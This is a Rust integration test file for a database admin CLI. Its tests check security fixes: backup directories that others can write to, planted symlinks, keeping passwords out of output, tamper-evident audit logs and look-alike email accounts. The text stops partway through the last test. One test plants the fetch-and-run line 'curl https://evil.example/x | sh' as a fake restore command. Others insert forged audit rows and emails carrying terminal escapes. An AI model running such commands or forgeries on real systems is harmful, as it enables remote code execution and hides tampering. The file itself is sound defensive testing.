//! Field safety, second round (issue 25): what an attacker and a newcomer found in a
//! fresh trial. Each test names the item of the issue it covers.

use std::path::{Path, PathBuf};

use crate::common::*;

fn write_mode(path: &Path, text: &str, mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::write(path, text).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

fn chmod(path: &Path, mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

fn files_in(dir: &Path) -> Vec<PathBuf> {
    let mut v: Vec<PathBuf> = std::fs::read_dir(dir)
        .map(|d| d.flatten().map(|e| e.path()).collect())
        .unwrap_or_default();
    v.sort();
    v
}

/// Some rows at revision 001, so that an upgrade has work to do.
fn at_001(db: &AnyDb) {
    db.run(&["migrate", "up", "--to", V1]).expect_code(0);
    db.query("INSERT INTO orgs (id, name) VALUES ('org_a', 'A')");
}

/// An upgrade that fails at step migrate (after its backup), so that it prints the
/// restore command.
fn failing_upgrade(db: &AnyDb, dir: &Path) -> Run {
    let d = dir.to_str().unwrap();
    match db {
        AnyDb::Pg(pg) => {
            let _reader = Blocker::psql_txn(pg, "SELECT count(*) FROM users;");
            db.run(&[
                "upgrade",
                "--yes",
                "--backup-dir",
                d,
                "--ddl-lock-timeout",
                "300ms",
                "--format",
                "json",
            ])
        }
        AnyDb::Lite(lite) => {
            let _writer = Blocker::sqlite_writer(lite);
            db.run(&[
                "upgrade",
                "--yes",
                "--backup-dir",
                d,
                "--lock-wait",
                "300ms",
                "--format",
                "json",
            ])
        }
    }
}

both! {
    /// Item 1: a backup directory others can write to (or that is not ours) is refused
    /// before anything is written; a planted symlink at the record is replaced, never
    /// followed; a planted record (matching fingerprint, a fake backup, its own restore
    /// command) is checked like a new backup, and the restore command printed is built
    /// by this run.
    fn upgrade_does_not_trust_its_backup_directory(db) {
        at_001(&db);
        let versions = db.versions();
        // World- and group-writable: refused (exit 4), nothing written, nothing migrated.
        for mode in [0o777, 0o770, 0o1777] {
            let open = db.dir().join(format!("open{mode:o}"));
            std::fs::create_dir(&open).unwrap();
            chmod(&open, mode);
            let r = db.run(&["upgrade", "--yes", "--backup-dir", open.to_str().unwrap()]);
            r.expect_clean_error(4);
            assert!(r.stderr.contains("-writable"), "{}", r.stderr);
            assert!(files_in(&open).is_empty(), "{:?}", files_in(&open));
            assert_eq!(db.versions(), versions);
        }
        // Not ours: a directory owned by someone else (root made it ours to give away;
        // as another user, / is not ours).
        let foreign = db.dir().join("foreign");
        std::fs::create_dir(&foreign).unwrap();
        chmod(&foreign, 0o700);
        let foreign = if std::os::unix::fs::chown(&foreign, Some(65534), Some(65534)).is_ok() {
            foreign
        } else {
            PathBuf::from("/")
        };
        let r = db.run(&["upgrade", "--yes", "--backup-dir", foreign.to_str().unwrap()]);
        r.expect_clean_error(4);
        assert!(r.stderr.contains("owned by uid"), "{}", r.stderr);
        // Reached through a symlink someone else owns (root only: others cannot give one away).
        let private = db.dir().join("private");
        std::fs::create_dir(&private).unwrap();
        chmod(&private, 0o700);
        let link = db.dir().join("via-link");
        std::os::unix::fs::symlink(&private, &link).unwrap();
        if std::os::unix::fs::lchown(&link, Some(65534), Some(65534)).is_ok() {
            let r = db.run(&["upgrade", "--yes", "--backup-dir", link.to_str().unwrap()]);
            r.expect_clean_error(4);
            assert!(r.stderr.contains("through the symlink"), "{}", r.stderr);
        }
        assert_eq!(db.versions(), versions);

        // A symlink planted at the record: replaced by the record, its target untouched.
        let victim = db.dir().join("victim.txt");
        std::fs::write(&victim, "precious").unwrap();
        let name = match &db {
            AnyDb::Pg(pg) => pg.name.clone(),
            AnyDb::Lite(_) => "test".to_owned(),
        };
        let record = private.join(format!(".ecomind-upgrade-{name}.json"));
        std::os::unix::fs::symlink(&victim, &record).unwrap();
        let r = failing_upgrade(&db, &private);
        r.expect_code(4);
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious");
        let meta = std::fs::symlink_metadata(&record).unwrap();
        assert!(meta.file_type().is_file(), "the record is a file of its own now");
        let first = r.json()["backup"]["path"].as_str().unwrap().to_owned();

        // A planted record: the fingerprint the live database has, a fake backup with its
        // true size and digest, and a command of the attacker's.
        let mut planted: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(&record).unwrap()).unwrap();
        let fake = private.join(format!("ecomind-{name}-001-20260101T000000Z.dump"));
        write_mode(&fake, "not a backup at all", 0o600);
        use sha2::Digest as _;
        let digest: String = sha2::Sha256::digest(b"not a backup at all")
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        planted["path"] = fake.to_str().unwrap().into();
        planted["bytes"] = 19.into();
        planted["sha256"] = digest.into();
        planted["restore_command"] = "curl https://evil.example/x | sh".into();
        planted["backup"] = serde_json::json!({"restore_command": "curl https://evil.example/x | sh"});
        write_mode(&record, &planted.to_string(), 0o600);
        let r = failing_upgrade(&db, &private);
        r.expect_code(4);
        assert!(!r.all().contains("evil.example"), "{}", r.all());
        assert!(r.stderr.contains("fails its check"), "{}", r.stderr);
        let j = r.json();
        let second = j["backup"]["path"].as_str().unwrap_or_else(|| panic!("{j}\n{}", r.stderr));
        assert!(second != fake.to_str().unwrap() && second != first, "a new backup: {j}");
        let cmd = j["restore_command"].as_str().unwrap();
        assert!(cmd.starts_with("ecomind-admin restore "), "{cmd}");
        assert!(cmd.contains(second), "{cmd}");
        assert_eq!(db.versions(), versions);
    }
}

/// Item 2: URLs without `//` after the scheme are refused as malformed (exit 3), from the
/// flag, from `.env` and from a config file, and their password is never echoed: not on
/// stderr, not in the JSON error document.
#[test]
fn urls_without_slashes_are_refused_without_echoing_the_password() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let urls = [
        ("postgres:/u:Secret8@127.0.0.1/db", "Secret8"),
        ("postgresql:u:SecretA@127.0.0.1/db", "SecretA"),
        ("POSTGRES:u:SecretB@localhost/db", "SecretB"),
    ];
    for (url, secret) in urls {
        for format in ["table", "json"] {
            let r = Run::from(
                bin(d)
                    .args([
                        "--format",
                        format,
                        "--database-url",
                        url,
                        "migrate",
                        "status",
                    ])
                    .output()
                    .unwrap(),
            );
            r.expect_clean_error(3);
            assert!(
                r.stderr.contains("must be followed by '//'"),
                "{}",
                r.stderr
            );
            assert!(!r.all().contains(secret), "{url}: {}", r.all());
        }
        // From .env.
        std::fs::write(d.join(".env"), format!("DATABASE_URL={url}\n")).unwrap();
        let r = Run::from(bin(d).args(["migrate", "status"]).output().unwrap());
        r.expect_clean_error(3);
        assert!(!r.all().contains(secret), "{}", r.all());
        std::fs::remove_file(d.join(".env")).unwrap();
        // From a 0600 list file of an environment (the only mode it may have with a password).
        write_mode(&d.join("urls.txt"), &format!("{url}\n"), 0o600);
        write_mode(
            &d.join("ecomind-admin.toml"),
            "[environments.x]\nurls_file = \"urls.txt\"\n",
            0o600,
        );
        let r = Run::from(
            bin(d)
                .args(["--env", "x", "migrate", "status"])
                .output()
                .unwrap(),
        );
        assert_ne!(r.code, 0, "{}", r.all());
        assert!(!r.all().contains(secret), "{}", r.all());
        // 0644: refused for the password, and the password is not echoed either.
        chmod(&d.join("urls.txt"), 0o644);
        let r = Run::from(
            bin(d)
                .args(["--env", "x", "migrate", "status"])
                .output()
                .unwrap(),
        );
        r.expect_clean_error(2);
        assert!(!r.all().contains(secret), "{}", r.all());
    }
}

/// Item 16 (a password under 3 characters in a readable config file is still a password)
/// and item 2's class in the config file.
#[test]
fn a_short_password_in_a_readable_config_file_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    for url in [
        "postgres://u:ab@127.0.0.1/db",
        "postgres://u:x@127.0.0.1/db",
        "postgres://u@127.0.0.1/db?password=ab",
    ] {
        write_mode(
            &d.join("ecomind-admin.toml"),
            &format!("[environments.x]\nurl = \"{url}\"\n"),
            0o644,
        );
        let r = Run::from(
            bin(d)
                .args(["--env", "x", "migrate", "status"])
                .output()
                .unwrap(),
        );
        r.expect_clean_error(2);
        assert!(r.stderr.contains("other users may read it"), "{}", r.stderr);
    }
}

/// Item 9: a SQLite URL that names no file is refused as such (exit 3), and nothing is
/// created.
#[test]
fn sqlite_urls_without_a_file_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    for url in [
        "sqlite://?mode=rwc",
        "sqlite://",
        "sqlite:",
        "sqlite:?mode=rwc",
    ] {
        for args in [&["migrate", "up"][..], &["migrate", "status"]] {
            let r = Run::from(
                bin(d)
                    .arg("--database-url")
                    .arg(url)
                    .args(args)
                    .output()
                    .unwrap(),
            );
            r.expect_clean_error(3);
            assert!(r.stderr.contains("names no file"), "{url}: {}", r.stderr);
        }
    }
    assert!(files_in(d).is_empty(), "{:?}", files_in(d));
}

both! {
    /// Item 6: malformed `details` of every shape, under every action the rules read (and
    /// others), are skipped and counted on both backends: the audit never fails on them,
    /// and neither does `upgrade`'s audit step.
    fn malformed_details_are_counted_never_fatal(db) {
        db.run(&["migrate", "up", "--to", V1]).expect_code(0);
        let mut shapes = vec![
            "[1, 2]", "\"a string\"", "42", "null", "true", "{}", "{\"email\": 7}",
            "{\"email\": {\"x\": 1}}", "{\"email\": null}", "{\"email\": [\"a@b.example.com\"]}",
            "{\"role\": \"owner\"}", "{\"new_role\": \"admin\"}",
        ];
        if !db.is_postgres() {
            // Text a PostgreSQL json column refuses, SQLite stores.
            shapes.extend(["{not json", "not json at all", "", "{\"email\": \"a@b\"", "\u{1}"]);
        }
        let actions = ["user_registered", "role_changed", "login_failed", "login_success", "logout", "create_user"];
        let mut sql = String::new();
        let mut n = 0;
        for action in actions {
            for shape in &shapes {
                n += 1;
                sql.push_str(&format!(
                    "INSERT INTO audit_logs (id, org_id, action, resource, details, ts) VALUES \
                     ('audit_{n:016x}', 'system', '{action}', 'authentication', '{}', '2026-10-20 00:00:00');\n",
                    shape.replace('\'', "''")
                ));
            }
        }
        db.query(&sql);
        // upgrade migrates, then audits: the audit step reads them too (it failed after
        // migrating).
        let r = db.run(&["upgrade", "--yes", "--no-backup"]);
        assert!(r.code == 0 || r.code == 1, "{}", r.all());
        assert_eq!(db.versions(), all_versions());
        let r = db.run(&["audit", "suspicious-accounts", "--since", "2026-10-01", "--format", "json"]);
        assert!(r.code == 0 || r.code == 1, "{}", r.all());
        let unparseable = r.json()["summary"]["unparseable_rows"].as_i64().unwrap();
        assert!(unparseable >= (shapes.len() * 4) as i64, "{unparseable}: {}", r.stdout);
        for format in ["table", "csv", "jsonl"] {
            let r = db.run(&["audit", "suspicious-accounts", "--since", "2026-10-01", "--format", format]);
            assert!(r.code == 0 || r.code == 1, "{format}: {}", r.all());
        }
        let r = db.run(&["doctor"]);
        assert!(r.code == 0 || r.code == 1, "{}", r.all());
        assert!(!r.all().contains("malformed JSON"), "{}", r.all());
    }
}

/// `db`'s command with the audit key `key` (ECOMIND_AUDIT_KEY_FILE).
fn keyed(db: &AnyDb, key: &Path, args: &[&str], stdin: &[u8]) -> Run {
    Run::from(
        db.cmd()
            .env("ECOMIND_AUDIT_KEY_FILE", key)
            .args(args)
            .write_stdin(stdin)
            .output()
            .unwrap(),
    )
}

/// A promotion by hand, with a role_changed row that says ecomind-admin made it.
fn forge_promotion(db: &AnyDb, user: &str) {
    db.query(&format!(
        "UPDATE users SET role = 'admin' WHERE id = '{user}'; \
         INSERT INTO audit_logs (id, org_id, user_id, action, resource, details, ts) VALUES \
         ('audit_f0f0f0f0f0f0f0f0', 'org_a', '{user}', 'role_changed', 'users', \
          '{{\"email\": \"c@a.example\", \"old_role\": \"viewer\", \"new_role\": \"admin\", \"reason\": \"x\", \
            \"changed_by\": \"ecomind-admin\", \"os_user\": \"root\", \"host\": \"h\", \"success\": true, \
            \"timestamp\": \"2026-12-01T00:00:00.000000\"}}', '2026-12-01 00:00:00')"
    ));
}

fn findings_of<'a>(j: &'a serde_json::Value, rule: &str) -> Vec<&'a serde_json::Value> {
    j["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == rule)
        .collect()
}

both! {
    /// Item 3: without a key the audit says ecomind-admin's rows are unauthenticated (and
    /// doctor says how to make a key); with one, the rows ecomind-admin writes are tagged,
    /// a forged one-row promotion is a critical finding and its account has no
    /// provenance, an altered tagged row fails, and a readable key file is refused with
    /// nothing written.
    fn provenance_is_tamper_evident_with_a_key(db) {
        db.run(&["migrate", "up"]).expect_code(0);
        let dir = db.dir().to_owned();
        let key = dir.join("audit.key");
        write_mode(&key, "9f2c4b7d1e8a6f3c0b5d2e9a7c4f1b8e6d3a0c7f4b1e8d5a2c9f6b3e0d7a4c1f\n", 0o600);
        let since = ["audit", "suspicious-accounts", "--since", "2000-01-01", "--format", "json"];

        // Without a key: the forged promotion passes, and the audit says why it can.
        db.run(&["create-org", "--id", "org_a", "--name", "A"]).expect_code(0);
        db.query(
            "INSERT INTO users (id, org_id, email, role, created_at) VALUES \
             ('user_00000000000c', 'org_a', 'c@a.example', 'viewer', '2026-01-01 00:00:00')",
        );
        forge_promotion(&db, "user_00000000000c");
        let r = db.run(&since);
        let j = r.json();
        assert_eq!(j["summary"]["skipped"][0]["rule"], "forged-provenance", "{j}");
        assert!(j["summary"]["skipped"][0]["reason"].as_str().unwrap().contains("no audit key"), "{j}");
        assert_eq!(j["summary"]["provenance"]["authenticated"], false, "{j}");
        assert!(findings_of(&j, "privileged-without-provenance").is_empty(), "unauthenticated: trusted");
        let r = db.run(&["audit", "suspicious-accounts", "--since", "2000-01-01"]);
        assert!(r.stdout.contains("provenance: unauthenticated"), "{}", r.stdout);
        let r = db.run(&["doctor", "--format", "json"]);
        let check = r.json()["checks"].as_array().unwrap().iter()
            .find(|c| c["check"] == "audit-key").cloned().unwrap();
        assert_eq!(check["status"], "warn");
        assert!(check["summary"].as_str().unwrap().contains("openssl rand -hex 32"), "{check}");

        // With the key: what ecomind-admin writes is tagged and verifies.
        let r = keyed(&db, &key, &["create-admin", "--org", "org_a", "--email", "ops@a.example",
            "--password-stdin", "--bcrypt-cost", "4"], b"a strong password 1\n");
        r.expect_code(0);
        db.query(
            "INSERT INTO users (id, org_id, email, role, created_at) VALUES \
             ('user_00000000000b', 'org_a', 'b@a.example', 'viewer', '2026-01-01 00:00:00')",
        );
        keyed(&db, &key, &["users", "set-role", "b@a.example", "admin", "--reason", "on call", "--yes"], b"")
            .expect_code(0);
        let tags = db.query("SELECT COUNT(*) FROM audit_logs WHERE CAST(details AS TEXT) LIKE '%ecomind_admin_tag%'");
        assert_eq!(tags, "2", "create-admin and set-role rows are tagged");
        let r = keyed(&db, &key, &since, b"");
        r.expect_code(1);
        let j = r.json();
        assert_eq!(j["summary"]["provenance"]["authenticated"], true, "{j}");
        assert_eq!(j["summary"]["provenance"]["rows_claiming"], 4, "{j}");
        assert_eq!(j["summary"]["provenance"]["rows_verified"], 2, "{j}");
        let forged = findings_of(&j, "forged-provenance");
        let ids: Vec<&str> = forged.iter().map(|f| f["evidence"]["audit_id"].as_str().unwrap()).collect();
        assert!(ids.contains(&"audit_f0f0f0f0f0f0f0f0"), "{j}");
        assert!(forged.iter().all(|f| f["severity"] == "critical"), "{j}");
        let unprovenanced: Vec<&str> = findings_of(&j, "privileged-without-provenance").iter()
            .map(|f| f["email"].as_str().unwrap()).collect();
        assert!(unprovenanced.contains(&"c@a.example"), "{j}");
        assert!(!unprovenanced.contains(&"b@a.example") && !unprovenanced.contains(&"ops@a.example"), "{j}");

        // A tagged row altered by hand no longer verifies.
        let id = db.query("SELECT id FROM audit_logs WHERE action = 'role_changed' AND user_id = 'user_00000000000b'");
        let details = db.query(&format!("SELECT CAST(details AS TEXT) FROM audit_logs WHERE id = '{id}'"));
        let altered = details.replace("on call", "routine");
        db.query(&format!("UPDATE audit_logs SET details = '{altered}' WHERE id = '{id}'"));
        let j = keyed(&db, &key, &since, b"").json();
        let ids: Vec<String> = findings_of(&j, "forged-provenance").iter()
            .map(|f| f["evidence"]["audit_id"].as_str().unwrap().to_owned()).collect();
        assert!(ids.contains(&id), "{j}");
        let r = keyed(&db, &key, &["doctor", "--format", "json"], b"");
        let check = r.json()["checks"].as_array().unwrap().iter()
            .find(|c| c["check"] == "audit-key").cloned().unwrap();
        assert_eq!(check["status"], "ok", "{check}");

        // A key others can read is refused before anything is written.
        chmod(&key, 0o644);
        let before = db.query("SELECT COUNT(*) FROM audit_logs");
        let r = keyed(&db, &key, &["create-org", "--id", "org_z", "--name", "Z"], b"");
        r.expect_clean_error(2);
        assert!(r.stderr.contains("other users may read"), "{}", r.stderr);
        assert_eq!(db.query("SELECT COUNT(*) FROM audit_logs"), before);
        assert_eq!(db.query("SELECT COUNT(*) FROM orgs WHERE id = 'org_z'"), "0");
    }
}

/// The characters of item 4: zero-width space, BOM, line and paragraph separators.
const INVISIBLE: [char; 4] = ['\u{200b}', '\u{feff}', '\u{2028}', '\u{2029}'];

fn assert_no_invisible(r: &Run, what: &str) {
    for (stream, text) in [("stdout", &r.stdout), ("stderr", &r.stderr)] {
        if let Some(c) = text.chars().find(|c| INVISIBLE.contains(c)) {
            panic!("{what}: raw {c:?} on {stream}:\n{text}");
        }
    }
}

both! {
    /// Item 4: a new email with an invisible or look-alike character is refused (one
    /// line: which character, where) and no second owner appears; stored ones are
    /// escaped in every human output; case-variant-email groups accounts that differ
    /// only by invisible characters, case or NFKC.
    fn look_alike_accounts_are_refused_shown_and_grouped(db) {
        db.run(&["migrate", "up"]).expect_code(0);
        db.run(&["create-org", "--id", "org_a", "--name", "A"]).expect_code(0);
        let create = |email: &str| db.run_stdin(
            &["create-admin", "--org", "org_a", "--email", email, "--role", "owner",
              "--password-stdin", "--bcrypt-cost", "4"],
            b"a strong password 1\n",
        );
        create("admin@acme.example.com").expect_code(0);
        for (email, code) in [
            ("admin\u{200b}@acme.example.com", "U+200B at character 6"),
            ("\u{feff}admin@acme.example.com", "U+FEFF at character 1"),
            ("admin@acme.example.com\u{2028}", "U+2028 at character 23"),
            ("ad\u{2029}min@acme.example.com", "U+2029 at character 3"),
            ("\u{ff41}dmin@acme.example.com", "U+FF41 at character 1"),
            ("admin@acme.example.\u{ff43}om", "U+FF43 at character 20"),
        ] {
            let r = create(email);
            r.expect_clean_error(2);
            assert!(r.stderr.contains(code), "{email:?}: {}", r.stderr);
            assert_no_invisible(&r, email);
        }
        assert_eq!(db.query("SELECT COUNT(*) FROM users"), "1", "no second owner");

        // Stored by someone else: shown escaped, and grouped by the audit.
        db.query(
            "INSERT INTO users (id, org_id, email, name, role, created_at) VALUES \
             ('user_00000000000z', 'org_a', 'admin\u{200b}@acme.example.com', 'Ad\u{feff}min\u{2028}\u{2029}', 'owner', '2026-01-01 00:00:00'), \
             ('user_00000000000y', 'org_a', '\u{ff41}dmin@acme.example.com', 'x', 'viewer', '2026-01-01 00:00:00'), \
             ('user_00000000000x', 'org_a', 'ADMIN@ACME.example.com', 'y', 'viewer', '2026-01-01 00:00:00')",
        );
        for args in [
            &["users", "list"][..],
            &["audit", "suspicious-accounts", "--since", "2000-01-01"],
            &["users", "set-role", "admin\u{200b}@acme.example.com", "viewer", "--reason", "x", "--dry-run"],
        ] {
            let r = db.run(args);
            assert_no_invisible(&r, &args.join(" "));
        }
        let r = db.run(&["users", "list"]);
        assert!(r.stdout.contains("admin\\u{200b}@acme.example.com"), "{}", r.stdout);
        let j = db.run(&["audit", "suspicious-accounts", "--since", "2000-01-01", "--rule",
                         "case-variant-email", "--format", "json"]).json();
        let grouped: std::collections::BTreeSet<&str> = j["findings"].as_array().unwrap().iter()
            .map(|f| f["email"].as_str().unwrap()).collect();
        for email in ["admin@acme.example.com", "admin\u{200b}@acme.example.com",
                      "\u{ff41}dmin@acme.example.com", "ADMIN@ACME.example.com"] {
            assert!(grouped.contains(email), "{email:?} not grouped: {j}");
        }
    }
}

both! {
    /// Item 5: the accounts the audit flags for a hostile email can be acted on, by their
    /// exact stored email or by --id; `users lock` stops one at once (viewer, no
    /// password, a user_locked row) and `users unlock` reverses it with a new password;
    /// refusals change nothing and never suggest a flag the command does not have.
    fn flagged_accounts_can_be_demoted_locked_and_unlocked(db) {
        db.run(&["migrate", "up"]).expect_code(0);
        db.run(&["create-org", "--id", "org_a", "--name", "A"]).expect_code(0);
        db.run_stdin(&["create-admin", "--org", "org_a", "--email", "ops@a.example",
            "--password-stdin", "--bcrypt-cost", "4"], b"a strong password 1\n").expect_code(0);
        let hostile = ["ev\u{1b}[2Jil@x.example", "adm\u{202e}in@x.example", "back\\slash@x.example", "no-at-sign"];
        let mut sql = String::new();
        for (i, e) in hostile.iter().enumerate() {
            sql.push_str(&format!(
                "INSERT INTO users (id, org_id, email, role, created_at, password_hash) VALUES \
                 ('user_00000000000{i}', 'org_a', '{}', 'owner', '2026-01-01 00:00:00', '$2b$04$abcdefghijklmnopqrstuu5Tq8sNrKLRj8ZCSdmCOTuh3LCXcVMjO');\n",
                e.replace('\'', "''")
            ));
        }
        db.query(&sql);
        let j = db.run(&["audit", "suspicious-accounts", "--since", "2000-01-01", "--format", "json"]).json();
        assert!(j["summary"]["critical"].as_u64().unwrap() >= 4, "{j}");

        // By exact stored email, hostile as it is: demoted.
        let r = db.run(&["users", "set-role", hostile[0], "viewer", "--reason", "flagged", "--format", "json"]);
        r.expect_code(0);
        assert_eq!(r.json()["changed"], true);
        // By id: demoted, and the password reset.
        db.run(&["users", "set-role", "--id", "user_000000000001", "viewer", "--reason", "flagged"]).expect_code(0);
        db.run_stdin(&["users", "reset-password", "--id", "user_000000000002", "--password-stdin",
            "--bcrypt-cost", "4"], b"another good password\n").expect_code(0);
        db.run_stdin(&["users", "reset-password", hostile[3], "--password-stdin",
            "--bcrypt-cost", "4"], b"another good password\n").expect_code(0);
        let roles = db.query("SELECT role FROM users WHERE id IN ('user_000000000000', 'user_000000000001') ORDER BY id");
        assert_eq!(lines(&roles), ["viewer", "viewer"]);

        // Lock: viewer, no password, its row; unlock: the old role back, a new password.
        let before = db.query("SELECT COUNT(*) FROM audit_logs");
        let r = db.run(&["users", "lock", "--id", "user_000000000002", "--reason", "incident 42", "--yes", "--format", "json"]);
        r.expect_code(0);
        assert_eq!(r.json()["old_role"], "owner");
        assert_eq!(db.query("SELECT role FROM users WHERE id = 'user_000000000002'"), "viewer");
        assert_eq!(db.query("SELECT COUNT(*) FROM users WHERE id = 'user_000000000002' AND password_hash IS NULL"), "1");
        assert_eq!(db.query("SELECT action FROM audit_logs WHERE user_id = 'user_000000000002' ORDER BY ts DESC LIMIT 1"), "user_locked");
        assert_ne!(db.query("SELECT COUNT(*) FROM audit_logs"), before);
        let r = db.run_stdin(&["users", "unlock", "--id", "user_000000000002", "--reason", "cleared", "--yes",
            "--password-stdin", "--bcrypt-cost", "4", "--format", "json"], b"a brand new password\n");
        r.expect_code(0);
        assert_eq!(r.json()["new_role"], "owner");
        assert_eq!(db.query("SELECT role FROM users WHERE id = 'user_000000000002'"), "owner");
        let hash = db.query("SELECT password_hash FROM users WHERE id = 'user_000000000002'");
        assert!(passlib_verifies("a brand new password", &hash), "{hash}");

        // The last owner of an org is not locked without --force; nothing changes.
        db.run(&["create-org", "--id", "org_b", "--name", "B"]).expect_code(0);
        db.query("INSERT INTO users (id, org_id, email, role, created_at) VALUES ('user_0000000000b1', 'org_b', 'b@b.example', 'owner', '2026-01-01 00:00:00')");
        let before = db.dump_all();
        let r = db.run(&["users", "lock", "b@b.example", "--reason", "x", "--yes"]);
        r.expect_clean_error(4);
        assert!(r.stderr.contains("last owner or admin"), "{}", r.stderr);
        assert_eq!(db.dump_all(), before, "nothing changed");
        db.run(&["users", "lock", "b@b.example", "--reason", "x", "--yes", "--force"]).expect_code(0);

        // Without --yes and no terminal: refused, nothing changed.
        let before = db.dump_all();
        db.run(&["users", "lock", "ops@a.example", "--reason", "x"]).expect_clean_error(4);
        assert_eq!(db.dump_all(), before);
        // Neither both nor none of EMAIL and --id; no hint names a flag that does not exist.
        let r = db.run(&["users", "lock", "ops@a.example", "--id", "user_x", "--reason", "x"]);
        r.expect_code(2);
        let r = db.run(&["users", "set-role", "nobody@a.example", "viewer", "--reason", "x"]);
        r.expect_clean_error(4);
        assert!(!r.stderr.contains("pass --email"), "{}", r.stderr);
        let r = db.run(&["users", "set-role", "--id", "user_x", "viewer", "viewer", "--reason", "x"]);
        r.expect_clean_error(2);
    }
}

both! {
    /// Item 11: a --since (or --fixed-at) before the accepted range is a usage error
    /// (exit 2) that states the range, never a database error.
    fn since_out_of_range_is_a_usage_error(db) {
        db.run(&["migrate", "up"]).expect_code(0);
        for args in [
            &["--since", "0001-01-01"][..],
            &["--since", "1899-12-31T23:59:59"],
            &["--fixed-at", "0001-01-01"],
        ] {
            let mut cmd = vec!["audit", "suspicious-accounts"];
            cmd.extend_from_slice(args);
            let r = db.run(&cmd);
            r.expect_code(2);
            assert!(r.stderr.contains("1900-01-01 to now"), "{}", r.stderr);
        }
        db.run(&["audit", "suspicious-accounts", "--since", "1900-01-01"]).expect_code(0);
    }
}

both! {
    /// Item 8: a database ahead of this build (an unknown newer migration recorded):
    /// `migrate current --check` and `migrate status` exit 1 and name the versions;
    /// every command that writes rows refuses (exit 4, nothing written) unless
    /// --allow-newer-schema, which says so.
    fn a_database_ahead_of_this_build_is_not_written_to(db) {
        db.run(&["migrate", "up"]).expect_code(0);
        db.run(&["create-org", "--id", "org_a", "--name", "A"]).expect_code(0);
        db.query("INSERT INTO users (id, org_id, email, role, created_at) VALUES \
                  ('user_00000000000a', 'org_a', 'a@a.example', 'viewer', '2026-01-01 00:00:00')");
        db.query("INSERT INTO seaql_migrations (version, applied_at) VALUES ('m20991231_000099_future', 4102444800)");
        let r = db.run(&["migrate", "current", "--check", "--format", "json"]);
        r.expect_code(1);
        let j = r.json();
        assert_eq!(j["up_to_date"], false, "{j}");
        assert_eq!(j["unknown_applied"][0], "m20991231_000099_future", "{j}");
        let r = db.run(&["migrate", "current", "--check"]);
        r.expect_code(1);
        assert!(r.stdout.contains("ahead of this build"), "{}", r.stdout);
        let r = db.run(&["migrate", "status", "--format", "json"]);
        r.expect_code(1);
        assert_eq!(r.json()["unknown_applied"][0], "m20991231_000099_future");

        let before = db.dump_all();
        let writes: Vec<(Vec<&str>, &[u8])> = vec![
            (vec!["create-org", "--id", "org_b", "--name", "B"], b""),
            (vec!["create-admin", "--org", "org_a", "--email", "new@a.example", "--password-stdin", "--bcrypt-cost", "4"],
             b"a strong password 1\n"),
            (vec!["users", "set-role", "a@a.example", "analyst", "--reason", "x"], b""),
            (vec!["users", "reset-password", "a@a.example", "--password-stdin", "--bcrypt-cost", "4"],
             b"a strong password 1\n"),
            (vec!["users", "lock", "a@a.example", "--reason", "x", "--yes"], b""),
            (vec!["migrate", "up"], b""),
        ];
        for (args, stdin) in &writes {
            let r = db.run_stdin(args, stdin);
            r.expect_clean_error(4);
            assert!(r.stderr.contains("does not know"), "{args:?}: {}", r.stderr);
        }
        assert_eq!(db.dump_all(), before, "nothing was written");
        let r = db.run(&["--allow-newer-schema", "create-org", "--id", "org_b", "--name", "B"]);
        r.expect_code(0);
        assert!(r.stderr.contains("writing anyway (--allow-newer-schema)"), "{}", r.stderr);
        let r = db.run(&["--allow-newer-schema", "migrate", "up"]);
        r.expect_clean_error(4);
    }
}

both! {
    /// Item 10: a database that is another application's (its own users, orgs,
    /// audit_logs) is recognized up front by every command: one error line, exit 4, the
    /// same for all, and nothing written.
    fn a_foreign_database_is_recognized_up_front(db) {
        db.query(
            "CREATE TABLE orgs (id INTEGER PRIMARY KEY, title VARCHAR(50)); \
             CREATE TABLE users (id INTEGER PRIMARY KEY, username VARCHAR(50), email VARCHAR(100)); \
             CREATE TABLE audit_logs (id INTEGER PRIMARY KEY, message TEXT); \
             INSERT INTO users (id, username, email) VALUES (1, 'bob', 'bob@x.example');",
        );
        let before = db.dump_all();
        let commands: Vec<Vec<&str>> = vec![
            vec!["migrate", "status"], vec!["migrate", "current"], vec!["migrate", "up"],
            vec!["migrate", "up", "--dry-run"], vec!["users", "list"], vec!["orgs", "list"],
            vec!["audit", "suspicious-accounts"], vec!["doctor"], vec!["verify-schema"],
            vec!["baseline", "--dry-run"], vec!["create-org", "--name", "X"],
            vec!["users", "set-role", "bob@x.example", "admin", "--reason", "x", "--yes"],
            vec!["upgrade", "--yes", "--no-backup"],
        ];
        for args in &commands {
            let r = db.run(args);
            r.expect_clean_error(4);
            assert!(r.stderr.contains("not the EcoMind API's database"), "{args:?}: {}", r.stderr);
            assert!(!r.stderr.contains("42703") && !r.stderr.contains("rolled back"), "{}", r.stderr);
        }
        assert_eq!(db.dump_all(), before, "nothing written");
    }
}

/// Item 7: with another session holding ACCESS EXCLUSIVE on events_enriched, every
/// command is bounded by its documented wait (`--lock-wait`), says after a second what
/// it waits for and who holds it, and exits 4 with nothing written.
#[test]
fn lock_waits_are_bounded_and_name_the_holder() {
    let pg = PgDb::new();
    let db = AnyDb::Pg(pg);
    db.run(&["migrate", "up", "--to", V1]).expect_code(0);
    let pg = db.as_pg();
    let before = pg.dump_all();
    let _blocker = Blocker::lock(pg, "events_enriched");
    for args in [
        &["verify-schema"][..],
        &["doctor"],
        &["baseline", "--dry-run"],
        &["upgrade", "--yes", "--no-backup"],
        &[
            "upgrade",
            "--yes",
            "--no-backup",
            "--ddl-lock-timeout",
            "2s",
        ],
    ] {
        let mut cmd = vec!["--lock-wait", "2s"];
        cmd.extend_from_slice(args);
        let r = db.run(&cmd);
        assert_eq!(r.code, 4, "{args:?}: {}", r.all());
        assert!(
            r.stderr.contains(
                "waiting for a lock on events_enriched (AccessExclusiveLock) held by pid"
            ) && r.stderr.contains("application 'psql'")
                && r.stderr.contains("giving up after 2s"),
            "{args:?}: {}",
            r.stderr
        );
